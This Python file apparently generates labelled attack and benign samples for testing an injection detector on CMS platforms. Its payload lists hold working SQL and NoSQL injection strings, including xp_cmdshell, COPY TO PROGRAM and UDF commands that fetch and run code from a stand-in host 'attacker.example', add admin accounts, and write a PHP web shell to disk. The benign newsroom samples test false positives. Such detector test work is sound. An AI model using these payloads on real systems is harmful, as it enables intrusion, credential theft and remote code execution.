    # sql-authentication-bypass, Drupal 7 user_login form (Drupalgeddon, expandArguments array keys, MySQL)
    ("name[0;insert into users_roles (uid,rid) values (2,3);#]=x&name[0]=editor&pass=x&form_id=user_login"
     "&op=Log+in", "form", "rs-form"),
    ("name[0 or name=0x61646d696e limit 1;#]=x&name[0]=x&pass=x&form_id=user_login_block&op=Log+in",
     "form", "rs-query"),
    # sql-authentication-bypass, phpBB / vBulletin legacy login.php (MySQL)
    "admin') or 1/*",
    "' or user_type=3-- -",
    "' or usergroupid=6#",
    # sql-authentication-bypass, TYPO3 frontend login extension (MySQL)
    "' or 1=1 and username like '%' limit 1#",
    # sql-authentication-bypass, Umbraco member login / Kentico / DNN / Sitecore custom login (SQL Server)
    "administrator'--",
    "' or 1=1--",
    "admin' or 'x'='x'--",
    "' or Username='host'--",
    "') or 1=1--",
    "' or IsSuperUser=1--",
    # sql-authentication-bypass, Strapi / Directus custom auth provider (PostgreSQL)
    "' or email like '%'--",
    "admin@example.org'--",
    "' or true limit 1--",
    # sql-authentication-bypass, Ghost members magic link lookup by a custom integration (SQLite)
    "' or email like '%@%' limit 1--",
    "\" or 1=1--",
    # sql-authentication-bypass, MediaWiki password reset extension (MySQL)
    "WikiSysop'-- -",
    # sql-authentication-bypass, Oracle portal login
    "' or rownum=1--",
]

# nosql-injection: Mongo-backed CMSs (KeystoneJS, Apostrophe, Payload, Strapi v3 on mongoose, NodeBB), Sanity GROQ
NOSQL: list[Entry] = [
    # nosql-injection, Strapi v3 on MongoDB, /auth/reset-password with an operator in place of the code
    ('{"code":{"$gt":0},"password":"Pwned123!","passwordConfirmation":"Pwned123!"}', *JB),
    ("code[$gt]=0&password=Pwned123!&passwordConfirmation=Pwned123!", "form", "rs-form"),
    # nosql-injection, KeystoneJS / Apostrophe custom Express login (mongoose findOne on the parsed body)
    ('{"email":{"$ne":null},"password":{"$ne":null}}', *JB),
    ('{"email":{"$regex":"^adm"},"password":{"$ne":""}}', *JB),
    ('{"username":{"$in":["admin","administrator","editor"]},"password":{"$gt":""}}', *JB),
    ('{"email":"admin@example.org","password":{"$exists":true}}', *JB),
    ('{"$or":[{"role":"admin"},{"email":{"$ne":null}}],"password":{"$ne":1}}', *JB),
    ("email[$ne]=x&password[$ne]=x", "form", "rs-form"),
    ("username[$regex]=^a&password[$gt]=", "form", "rs-query"),
    ("email[$exists]=true&password[$ne]=", "query", "rs-form"),
    ("username[$in][]=admin&username[$in][]=root&password[$ne]=1", "form", "rs-query"),
    # nosql-injection, NodeBB-style list filter built from the query string (qs brackets into find())
    ("where[slug][$regex]=.*", *KQ),
    ("filter[author][$ne]=0", *KQ),
    ("sort[$where]=sleep(5000)", *KQ),
    ("id[$gt]=", *KV),
    ("token[$ne]=", *KV),
    # nosql-injection, Payload / Keystone GraphQL resolver passing `where` straight into Mongo
    ('{"where":{"email":{"$regex":".*"},"resetPasswordToken":{"$ne":null}}}', *JB),
    ('{"$where":"this.role == \'admin\' || sleep(5000)"}', *JB),
    # nosql-injection, a CMS plugin concatenating the input into a $where JavaScript string (MongoDB)
    "' || '1'=='1",
    "'; return true; var x='",
    "1; return this.roles.indexOf('admin') >= 0",
    "'; sleep(5000); var x='",
    "' && this.password.match(/^\\$2/) && 'a'=='a",
    "0; while(true){}",
    "this.email.length > 0",
    # nosql-injection, a Parse/Keystone-style `where=` parameter the CMS JSON-parses into find() (MongoDB)
    '{"$gt":""}',
    '{"$where":"1==1"}',
    '{"password":{"$regex":"^\\\\$2b"}}',
    # nosql-injection, Sanity GROQ filter built with a template string around the slug
    'x" || _id in path("drafts.**") || slug.current == "',
    'x" || _type == "sanity.imageAsset" || "a" == "',
]

# hex/char encoding: literals written as hex, CHAR() or CHR() so no quote reaches a quote-stripping CMS filter
ENCODING: list[Entry] = [
    # hex-char-encoding, WordPress $wpdb with esc_sql() on a numeric context, no quotes needed (MySQL hex)
    "-1 union select 1,user_pass,3,4 from wp_users where user_login=0x61646d696e-- -",
    "1 and (select count(*) from information_schema.tables where table_name=0x77705f7573657273)>0",
    "-1 union select 1,option_value,3,4 from wp_options where option_name=0x7369746575726c#",
    "-1 union select 1,0x3c3f7068702073797374656d28245f4745545b635d293b3f3e,3,4 into outfile "
    "'/var/www/html/wp-content/uploads/c.php'#",
    "1 and user()=char(114,111,111,116,64,108,111,99,97,108,104,111,115,116)",
    "-1 union select 1,user_pass,3,4 from wp_users where user_login=char(97,100,109,105,110)#",
    "-1 union select 1,unhex('61646d696e'),3,4-- -",
    # hex-char-encoding, Joomla (MySQL)
    "-1 union select 1,password,3 from jos_users where username=0x61646d696e6973747261746f72#",
    "1 and (select count(*) from information_schema.columns where table_name=0x6a6f735f7573657273)>5",
    "-1 union select 1,load_file(0x2f6574632f706173737764),3#",
    "1 and x'61646d696e'=(select username from jos_users limit 1)",
    "1 and b'0110000101100100'=left((select username from jos_users limit 1),2)",
    "-1 union select 1,_binary 0x61646d696e,3-- -",
    # hex-char-encoding, TYPO3 / phpBB (MySQL)
    "-1 union select username,password,3 from be_users where username=0x61646d696e#",
    "1 and (select count(*) from information_schema.tables where table_name=0x70687062625f7573657273)=1",
    # hex-char-encoding, Umbraco / Kentico / DNN / Sitecore on SQL Server: EXEC of a hex-cast string
    "1; declare @s varchar(99); set @s=0x77616974666f722064656c61792027303a303a3527; exec(@s)--",
    "1; declare @c varchar(99); set @c=cast(0x65786563206d61737465722e2e78705f636d647368656c6c202777686f616d6927 "
    "as varchar(99)); exec(@c)--",
    "-1 union select userLogin,userPassword from umbracoUser where userLogin=char(97)+char(100)+char(109)+char(105)"
    "+char(110)--",
    "1 and (select count(*) from sysobjects where name=0x434d535f55736572)>0--",
    "1 and nchar(97)+nchar(100)=(select top 1 left(Username,2) from Users)--",
    # hex-char-encoding, Strapi / Directus / Discourse on PostgreSQL
    "-1 union select email,password from admin_users where email like chr(97)||chr(37)--",
    "1 and (select count(*) from pg_tables where tablename=convert_from(decode('61646d696e5f7573657273','hex'),"
    "'utf8'))=1--",
    "1 and (select count(*) from users where username=$$admin$$)=1--",
    "-1 union select email,password from directus_users where email=convert_from('\\x61646d696e406578616d706c652e"
    "6f7267','UTF8')--",
    # hex-char-encoding, Ghost on SQLite
    "-1 union select email,password from users where email like char(97,37)--",
    "-1 union select email,password from users where hex(email) like '61%'--",
    "1 and x'61646d696e'=(select name from users limit 1)--",
    # hex-char-encoding, Oracle portal
    "-1 union select username,password from portal_users where username=chr(65)||chr(68)||chr(77)||chr(73)"
    "||chr(78)--",
    "1 and utl_raw.cast_to_varchar2(hextoraw('41444d494e'))=(select user from dual)",
]

# stored-procedure/xp_cmdshell: the SQL Server CMSs (Umbraco, Sitecore, Kentico, DNN) and their procedures, plus
# PostgreSQL/MySQL/Oracle routines reached from the open-source ones
PROC: list[Entry] = [
    # stored-procedure-xp-cmdshell, Umbraco / Kentico / DNN / Sitecore running as sa (SQL Server xp_cmdshell)
    "1; exec master..xp_cmdshell 'whoami'--",
    "1'; exec xp_cmdshell 'type C:\\inetpub\\wwwroot\\umbraco\\web.config'--",
    "1; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; reconfigure--",
    "1; exec master.dbo.xp_cmdshell 'powershell -c iwr http://attacker.example/a.ps1 | iex'--",
    "1; exec xp_cmdshell 'certutil -urlcache -f http://attacker.example/s.aspx C:\\inetpub\\wwwroot\\s.aspx'--",
    "';exec master..xp_cmdshell 'net user cmsadm P@ssw0rd1 /add'--",
    "1; exec master..xp_cmdshell 'nslookup %USERNAME%.attacker.example'--",
    # stored-procedure-xp-cmdshell, SQL Server OLE automation and other extended procedures
    "1; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,'cmd /c "
    "whoami > C:\\inetpub\\wwwroot\\w.txt'--",
    "1; exec sp_configure 'Ole Automation Procedures',1; reconfigure--",
    "1; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\W3SVC',"
    "'ImagePath'--",
    "1; exec master..xp_servicecontrol 'start','schedule'--",
    "1; exec sp_addlogin 'cmsops','P@ssw0rd1'; exec sp_addsrvrolemember 'cmsops','sysadmin'--",
    "1; exec sp_executesql N'select name from sys.sql_logins'--",
    "1; exec msdb..sp_add_job @job_name='k'; exec msdb..sp_add_jobstep @job_name='k',@step_name='s',"
    "@subsystem='CmdExec',@command='whoami'--",
    "1; exec sp_linkedservers--",
    "1; exec ('select * from openquery([SITECORE-LNK],''select @@version'')')--",
    "1; exec master..sp_password null,'P@ssw0rd1','sa'--",
    # stored-procedure-xp-cmdshell, DNN's own stored procedures reached by a stacked query (SQL Server)
    "1; exec dbo.UpdateUser @UserID=1,@PortalID=0,@IsSuperUser=1--",
    "1; exec dbo.AddUserRole @PortalID=0,@UserID=2,@RoleID=0,@Status=1,@IsOwner=1,@EffectiveDate=null,"
    "@ExpiryDate=null,@CreatedByUserID=1--",
    # stored-procedure-xp-cmdshell, Strapi / Directus / Discourse on PostgreSQL (COPY ... PROGRAM, C functions)
    "1; copy (select '') to program 'id > /tmp/strapi_pwn'--",
    "1; create table cmd_out(t text); copy cmd_out from program 'id'; select * from cmd_out--",
    "1; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict--",
    "1; do $$ begin perform pg_sleep(0); execute 'copy (select 1) to program ''curl attacker.example'''; end $$--",
    # stored-procedure-xp-cmdshell, WordPress / Joomla on MySQL with a UDF dropped into the plugin dir
    "1; create function sys_exec returns integer soname 'lib_mysqludf_sys.so'-- -",
    "1 and sys_exec('curl http://attacker.example/x|sh')=0",
    "1; call mysql.lambda('id')-- -",
    # stored-procedure-xp-cmdshell, Oracle portal (DBMS_SCHEDULER, Java stored procedure)
    "1; begin dbms_scheduler.create_job(job_name=>'J',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>true); end;--",
    "1 and dbms_java.runjava('oracle/aurora/util/Wrapper /bin/touch /tmp/p') is not null",
]

# having/group-by/order-by probing: column counting, sort parameters (WordPress orderby, Drupal Views sort_by,
# Joomla list[fullordering]/filter_order) and the errors GROUP BY and HAVING give away
ORDER: list[Entry] = [
    # having-group-order-by-probing, WordPress plugin ?id= column counting (MySQL)
    "1 order by 1-- -",
    "1 order by 4-- -",
    "1 order by 100#",
    "1' order by 5-- -",
    "1 group by 1,2,3,4-- -",
    # having-group-order-by-probing, WordPress REST API / WP_Query orderby reaching a raw ORDER BY (MySQL)
    "post_date,(select 1 from wp_users where ID=1 and user_login='admin')",
    "(case when (select substr(user_pass,1,1) from wp_users where ID=1)='$' then post_title else post_date end)",
    "if((select count(*) from wp_users)>1,ID,post_title)",
    "rand((select count(*) from wp_users))",
    "post_title desc,(select sleep(5) from dual where 1=1)",
    # having-group-order-by-probing, Joomla list[fullordering] / filter_order / filter_order_Dir (MySQL)
    "a.id asc,(select 1 from jos_users where id=42 and block=0)",
    "a.title,extractvalue(1,concat(0x7e,(select username from jos_users limit 1)))",
    "asc,(select 1 from (select sleep(5))x)",
    "a.ordering desc limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    # having-group-order-by-probing, Drupal Views exposed sort order=&sort= with a custom handler (PostgreSQL)
    "title,(select case when (select count(*) from users)>0 then 1 else 1/0 end)",
    "created desc,(select 1 from pg_sleep(5))",
    # having-group-order-by-probing, phpBB memberlist.php sk= / sd= in a MOD (MySQL)
    "user_regdate,(select 1 from phpbb_users where user_type=3 and user_id=2)",
    "1 group by user_id having 1=1#",
    # having-group-order-by-probing, Umbraco / Kentico / DNN / Sitecore on SQL Server: HAVING error names columns
    "' having 1=1--",
    "' group by umbracoUser.id having 1=1--",
    "' group by CMS_User.UserID,CMS_User.UserName having 1=1--",
    "1 order by (select top 1 Username from Users)--",
    "1 order by case when (select count(*) from CMS_User)>1 then 1 else 2 end--",
    # having-group-order-by-probing, Strapi ?_sort= / Directus ?sort= via knex.raw (PostgreSQL)
    "id,(select 1 from admin_users limit 1)",
    "1 having 1=1--",
    # having-group-order-by-probing, Ghost Content API ?order= through a custom adapter (SQLite)
    "published_at desc,(case when (select count(*) from users)>0 then 1 else 2 end)",
    "1 order by 3--",
    # having-group-order-by-probing, MediaWiki / Confluence list sort (MySQL / PostgreSQL)
    "page_title,(select user_name from user limit 1)",
    "lowertitle,(select credential from cwd_user limit 1)",
]

# like/between/in operators: pattern and range probes in place of '=' (a CMS filter that strips '=')
OPERATORS: list[Entry] = [
    # like-between-in-operators, WordPress plugin ?id= (MySQL)
    "1 and (select user_pass from wp_users where ID=1) like '$P$B%'",
    "' or user_login like 'adm%'-- -",
    "1 and (select user_login from wp_users where ID=1) between 'a' and 'b'",
    "1 and 1 in (select ID from wp_users where user_login like 'a%')",
    "1 and (select user_email from wp_users where ID=1) regexp '^admin@'",
    "1 and (select option_value from wp_options where option_name='siteurl') rlike 'https'",
    "-1 or ID in (select post_id from wp_postmeta where meta_key='_wp_attached_file')",
    "1 and (select count(*) from wp_users) not between 0 and 1",
    # like-between-in-operators, Joomla (MySQL)
    "1 and (select password from jos_users limit 1) like '$2y$10$%'",
    "1 and (select id from jos_users where username='admin') in (select user_id from jos_user_usergroup_map "
    "where group_id=8)",
    "1 and ascii(substr((select password from jos_users limit 1),5,1)) between 48 and 57",
    # like-between-in-operators, Drupal (MySQL / PostgreSQL)
    "1 and (select pass from users where uid=1) like '$S$%'",
    "1 and 3 in (select rid from users_roles where uid=1)",
    # like-between-in-operators, phpBB / vBulletin (MySQL)
    "1 and (select user_password from phpbb_users where user_id=2) like '$2y$%'",
    "1 and (select usergroupid from user where userid=1) in (5,6,7)",
    # like-between-in-operators, Strapi / Directus / Discourse / Confluence on PostgreSQL
    "1 and (select email from admin_users limit 1) ilike '%@%'--",
    "1 and (select username from users where id=1) similar to 'a%'--",
    "1 and (select password from directus_users limit 1) ~ '^\\$argon2'--",
    "1 and (select credential from cwd_user limit 1) like '{PKCS5S2}%'--",
    # like-between-in-operators, Umbraco / Kentico / DNN / Sitecore on SQL Server
    "1 and (select top 1 userLogin from umbracoUser) like '[a-f]%'--",
    "1 and (select top 1 UserName from CMS_User) like 'adm_n'--",
    "1 and 1 in (select IsSuperUser from Users where Username='host')--",
    "1 and (select top 1 PasswordFormat from aspnet_Membership) between 1 and 2--",
    # like-between-in-operators, Ghost on SQLite
    "1 and (select email from users limit 1) glob 'a*'--",
    "1 and (select password from users limit 1) like '$2a$10$%'--",
    # like-between-in-operators, MediaWiki / TYPO3 / Craft (MySQL)
    "1 and (select user_password from user limit 1) like ':pbkdf2:%'",
    "1 and (select password from be_users where admin=1 limit 1) like '$argon2%'",
    "1 and (select admin from craft_users where username like 'adm%') in (1)",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs and Drupal array-key logins written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection", "sql-authentication-bypass"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    # the CMS's own parameter names: WordPress (p, s, cat, author, orderby), Joomla (id, filter_order), Drupal
    # (nid, sort_by), Ghost/Strapi (slug, filter), XML-RPC/admin-ajax (post_id)
    names = ["id", "p", "s", "cat", "orderby", "slug", "nid", "filter_order", "post_id", "author", "tag", "sort_by"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^"
    raw_places = ("form", "query", "rs-form", "rs-query", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (editors, web producers and site developers in Slack, their bios,
# searches by desk and section, links to CMS admin pages and articles, quoted errors, media and export file names)
CHAT = [
    # the newsroom web desk and the platform team
    "can someone select a featured image for the budget story? the union one, not the strike photo",
    "the [gallery ids=\"412,415,418\" columns=\"3\" size=\"medium\"] shortcode stopped rendering after 6.5",
    "just paste [embed]https://www.youtube.com/watch?v=dQw4w9WgXcQ[/embed] and it works, no iframe needed",
    "Yoast is flagging the title as too long again, I'll trim it before it goes out at 6",
    "who has the Drupal admin login for the archive site? need to unpublish a node from 2014",
    "the Views block on /sport orders by created desc but editors want sticky first, then date",
    "in Joomla go to Content > Articles, filter by category, then sort by Ordering ascending",
    "the newsletter template uses {% for post in posts|slice(0, 5) %} so only five show up",
    "Liquid snippet for the byline: {{ article.author | default: \"Staff\" }}",
    "Markdown tip: wrap the SQL in triple backticks so the editor stops turning quotes into curly ones",
    "the shortcode is [contact-form-7 id=\"1234\" title=\"Newsletter signup\"], just drop it at the end",
    "getting 'Error establishing a database connection' on staging, I think the RDS password rotated",
    "WordPress database error: [Table 'wp_staging.wp_actionscheduler_logs' doesn't exist] after the migration",
    "ran wp search-replace 'http://old.example.org' 'https://www.example.org' --dry-run, 4,211 replacements",
    "the slow query log shows SELECT option_name, option_value FROM wp_options WHERE autoload = 'yes' again",
    "biggest autoloaded option is a 2MB transient from the social share plugin, deleting it fixed TTFB",
    "please don't drop the redirects table, just export it first, Redirection plugin can import the CSV",
    "the 301 from /2019/05/old-slug to /news/new-slug is looping, check the regex redirect order",
    "wp-cron is backed up with 3,000 scheduled actions, I'll run them via WP-CLI tonight",
    "Discourse embed shows 'Loading discussion...' forever, the embed host setting is missing www",
    "phpBB 3.3 upgrade went fine, the search index needs rebuilding though",
    "Confluence page for the style guide: Editorial > Style > Headlines and sell lines",
    "MediaWiki: use {{Infobox person}} and put the birth date in the template, not in the lead",
    "DokuWiki needs the ACL set to @editors Read for the ops namespace",
    "Strapi content type 'article' has a relation to 'author', populate=* is heavy, use populate[author]=true",
    "Directus filter syntax is filter[status][_eq]=published, not the old ?status=published",
    "Ghost Content API: /ghost/api/content/posts/?filter=tag:politics&limit=15&order=published_at%20desc",
    "GROQ for the homepage: *[_type == \"post\" && defined(slug.current)] | order(publishedAt desc)[0...10]",
    "Contentful query uses fields.slug[in]=one,two and order=-sys.createdAt",
    "Sanity studio is asking everyone to log in again, they rolled the CORS origins",
    "Craft entries query: craft.entries.section('news').orderBy('postDate desc').limit(12).all()",
    "Umbraco backoffice is timing out when I open Media, 14k items in one folder",
    "Sitecore publish is stuck at 'Publishing item 1 of 2,310', restarting the publishing service",
    "Kentico page type Article has a field called Union - it's the trade union name, please don't rename it",
    "DNN module settings: Display = Grid, Sort By = Title, Order = Ascending",
    "TYPO3 backend: clear all caches, then the news plugin shows the new teaser",
    "Elementor section has a min-height of 100vh, that's why the hero is huge on mobile",
    "Gutenberg keeps wrapping the embed in a <figure class=\"wp-block-embed\">, fine by me",
    "classic editor users: the 'Insert Media' button is still there, top left",
    "the image resizer returns 400 for ?w=0, use ?w=1200&h=675&fit=crop for social cards",
    "thumbor URL for the wide crop is /unsafe/1200x675/smart/uploads/2024/06/harbour.jpg",
    "srcset on the lead image is missing the 2x variant, regenerate thumbnails should fix it",
    "comment moderation queue has 400 spam comments, Akismet was switched off during the update",
    "RSS feed is only showing 10 items, Settings > Reading > Syndication feeds show the most recent",
    "the Atom feed for the podcast validates now, the enclosure length was zero",
    "XML-RPC is disabled on prod, the old mobile app used it for publishing, nobody uses that any more",
    "WP All Import is mapping the 'Category' column to tags, fix the mapping before the next run",
    "exported the posts as WXR, 38 MB, the importer times out so I split it by year",
    "select all the posts in the 'Opinion' category and bulk edit the author to Staff",
    "update the plugin on staging first, last time WooCommerce 8.9 broke the checkout shortcode",
    "sleep on it and we'll decide tomorrow which theme to use for the relaunch",
    "the benchmark on the new host: TTFB 180ms uncached, 35ms with page cache",
    "we group by section in the analytics report, then order by pageviews",
    "editors like the 'Between the lines' column, let's give it its own tag page",
    "stories between Monday and Friday go to the weekday newsletter, weekend ones to the digest",
    "any post like 'Live: ...' should be excluded from the sitemap after 48 hours",
    "the union of the two tag lists is 212 tags, most are duplicates with different capitalisation",
    "having both Jetpack and Yoast output Open Graph tags gives duplicate og:title, turn one off",
    "Drupal says 'The website encountered an unexpected error. Please try again later.' on node/add/article",
    "PDOException: SQLSTATE[HY000] [2002] Connection refused in the Drupal log after the DB failover",
    "Joomla 'Error 0 - Call to a member function get() on null' after the template override",
    "the order of blocks in the sidebar widget area is wrong on mobile, sticky posts widget should be first",
    "please insert the pull quote after the third paragraph, not at the top",
    "can you drop the byline from the photo essay? the photographer credit is in the captions",
    "the 'Like' button embed from the social plugin is gone, they deprecated it",
    "the admin email is still old-webmaster@example.org, update it under Settings > General",
    "feature flag for the new live blog is on for the politics desk only",
    "hex colour for the breaking news bar is #c8102e, same as print",
    "the char limit for the SEO title is 60, the meta description 155",
    "concat of first and last name in the author box is missing a space for three authors",
    "xp from the last relaunch: freeze content 24h before the DNS switch",
    "procedure for corrections: add the note at the bottom, update the modified date, tell the desk",
    "execute the migration script on staging only, the prod one runs Sunday 02:00",
    "the where clause in the related posts query is fine, it's the missing index on post_date",
    "I'll order the new stock photos today, the licence covers web and social",
    "dba says the wp_postmeta table is 9 GB, mostly revisions and orphaned meta",
    "cast list for the theatre review goes in a table block, not an image",
    "null values in the author field break the byline, defaulting to 'Staff' for now",
    # bios
    "Web producer on the news desk. Shortcodes, embeds and last-minute headline changes.",
    "Senior WordPress developer, plugins and WP-CLI, ex-agency. Coffee, then code review.",
    "Drupal site builder since 6.x: Views, Paragraphs, migrate and a lot of config export",
    "Managing editor, digital. Ask me about the style guide, not about the CMS.",
    "Frontend dev: Twig, Liquid, Tailwind. I make the templates editors complain about.",
    "Headless CMS person (Strapi, Sanity, Contentful). GraphQL over REST when I can.",
    "Community manager for the forums (phpBB, then Discourse). Moderation and migrations.",
    "Photo editor. Media library, crops, captions, licensing. Please name your files properly.",
]

SEARCHES = [
    "news desk", "web desk", "sport", "opinion", "features", "culture desk", "politics", "business desk",
    "photo desk", "video", "audience", "SEO", "newsletters", "social", "podcasts", "data desk", "graphics",
    "o'connor", "d'arcy", "Ní Bhriain", "union", "select", "order", "group", "having", "between", "like",
    "drupal", "wordpress", "joomla", "umbraco", "sitecore", "strapi", "ghost", "typo3", "editor", "producer",
    "admin", "web producer", "night editor", "sub-editor", "live blog",
]

URLS = [
    "https://www.example.org/wp-admin/edit.php?post_type=post&orderby=date&order=desc",
    "https://www.example.org/wp-admin/post.php?post=48213&action=edit",
    "https://www.example.org/wp-admin/upload.php?mode=list&attachment-filter=post_mime_type:image",
    "https://www.example.org/wp-json/wp/v2/posts?categories=12&per_page=20&orderby=modified",
    "https://www.example.org/?s=union+station&post_type=post",
    "https://www.example.org/feed/?cat=7",
    "https://archive.example.org/admin/content?type=article&status=1&sort_by=changed&sort_order=DESC",
    "https://archive.example.org/node/10231/edit",
    "https://cms.example.org/administrator/index.php?option=com_content&view=articles&filter[category_id]=9",
    "https://cms.example.org/index.php?option=com_content&view=article&id=311&catid=9",
    "https://headless.example.org/admin/content-manager/collection-types/api::article.article?sort=title:ASC",
    "https://headless.example.org/api/articles?filters[slug][$eq]=budget-2024&populate=*",
    "https://blog.example.org/ghost/#/posts?type=draft",
    "https://forum.example.org/viewtopic.php?t=9921&start=25",
    "https://forum.example.org/t/embedding-comments-on-articles/412",
    "https://wiki.example.org/index.php?title=Style_guide&action=history",
    "https://wiki.example.org/doku.php?id=ops:publishing_checklist",
    "https://developer.wordpress.org/reference/classes/wpdb/prepare/",
    "https://developer.wordpress.org/rest-api/reference/posts/#arguments",
    "https://www.drupal.org/docs/drupal-apis/database-api/dynamic-queries/ordering",
    "https://docs.joomla.org/Help4.x:Articles",
    "https://www.sanity.io/docs/groq",
]

PROSE = [
    "Union coverage - strike day live blog",
    "select featured images for Sunday",
    "order of stories on the homepage",
    "group by desk in the weekly report",
    "posts between 1 May and 31 May",
    "stories like the election explainer",
    "O'Connor, Siobhán - sub-editor",
    "Between the lines (column)",
    "having trouble with the embed",
    "drop cap style for long reads",
    "update: correction appended",
    "insert pull quote after para 3",
    "where to file wire copy",
    "null bylines - fix list",
    "the sleep issue (health feature)",
    "benchmark tests for the new host",
    "admin bar hidden for contributors",
    "[caption] shortcode width fix",
    "{{ post.title }} in the newsletter subject",
    "exec summary for the relaunch",
    "hex codes for section colours",
    "char count for headlines",
    "Like and share buttons",
    "in-article ads after 4 paragraphs",
    "RSS / Atom feed audit",
    "XML-RPC disabled - mobile app",
    "WXR export for the archive",
    "redirects 301 import",
    "image resizer 2x srcset",
    "comments closed after 14 days",
]

PROFILES = [
    ("Siobhán O'Connor", "Abbey St 22, Dublin"),
    ("Union Square Press", "Union Sq 1, San Francisco"),
    ("Darragh D'Arcy", "Quay St 8, Galway"),
    ("Select Print & Media", "Fleet St 114, London"),
    ("Group Desk Ltd", "Newsroom Row 3, Leeds"),
    ("Having A Say Podcast", "Broadcast House 2, Cardiff"),
    ("Between Covers Bookshop", "Rue des Livres 7, Brussels"),
    ("Order of the Press", "Printing House Sq 5, London"),
    ("Shortcode Studio", "Kastanienallee 12, Berlin"),
    ("Twig & Liquid Design", "Canal St 40, Manchester"),
    ("Headline Hub", "Media City 1, Salford"),
    ("Byline Media Group", "Calle Mayor 19, Madrid"),
    ("Sleepy Owl Coffee", "Park Lane 3, Bristol"),
    ("Benchmark Publishing", "Herengracht 100, Amsterdam"),
    ("Like Minded Press", "Queen St 55, Auckland"),
    ("The Drupal Shop", "Antwerpsesteenweg 4, Ghent"),
    ("Ghost Writers Collective", "Old Town 9, Edinburgh"),
    ("Strapi Works", "Rue Nationale 21, Lyon"),
    ("Umbraco Partner DK", "Vesterbrogade 30, Copenhagen"),
    ("Null Island Maps", "0 Equator Rd, Gulf of Guinea"),
]

UPLOAD_NAMES = [
    "harbour-strike-union-rally_0412.jpg", "budget-2024-hero-1200x675.jpg", "select-committee-hearing.png",
    "wp-posts-export-2024-06-12.xml", "redirects-301-import.csv", "drupal-nodes-articles-export.csv",
    "joomla-articles-com_content.json", "authors_group_by_desk.xlsx", "order-of-service-memorial.pdf",
    "between-the-lines-logo.svg", "like-button-deprecated-notice.png", "wp_options-autoload-report.csv",
    "ghost-content-export-2024-06-01.json", "strapi-articles-backup.tar.gz", "newsroom-style-guide-v7.docx",
    "O'Connor_headshot.jpg", "podcast-ep-112-having-a-say.mp3", "sitemap-posts-2019.xml",
    "umbraco-media-folder-audit.xlsx", "comment-moderation-rules.pdf", "rss-feed-audit.xlsx",
    "benchmark-ttfb-results.csv",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "WordPress/6.5.4; https://www.example.org"),
    ("User-Agent", "WP-CLI/2.10.0"),
    ("User-Agent", "Drupal (+https://www.drupal.org/)"),
    ("User-Agent", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)"),
    ("User-Agent", "Discourse Forum Onebox v3.2.2"),
    ("Referer", "https://www.example.org/wp-admin/edit.php?post_status=draft&post_type=post"),
    ("Referer", "https://www.example.org/wp-admin/admin.php?page=wpseo_dashboard"),
    ("Referer", "https://archive.example.org/admin/structure/views/view/frontpage/edit/page_1"),
    ("Referer", "https://cms.example.org/administrator/index.php?option=com_content&view=articles"),
    ("Referer", "https://blog.example.org/ghost/#/editor/post/665f1c2ab8e4a70001c2d9e1"),
    ("Referer", "https://www.google.com/search?q=wordpress+order+posts+by+modified+date"),
    ("X-Api-Version", "2024-06-01"),
    ("X-WP-Nonce", "3f9a1c27be"),
    ("X-Request-Id", "9b2e6c14-0d3a-4f8e-b7a1-52c6e9f03d48"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.6"),
    ("Cookie", "session=abc123; wp-settings-time-1=1718200000; editor=block"),
    ("Cookie", "session=abc123; last_section=opinion; sort=published_at%20desc"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 07:28:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
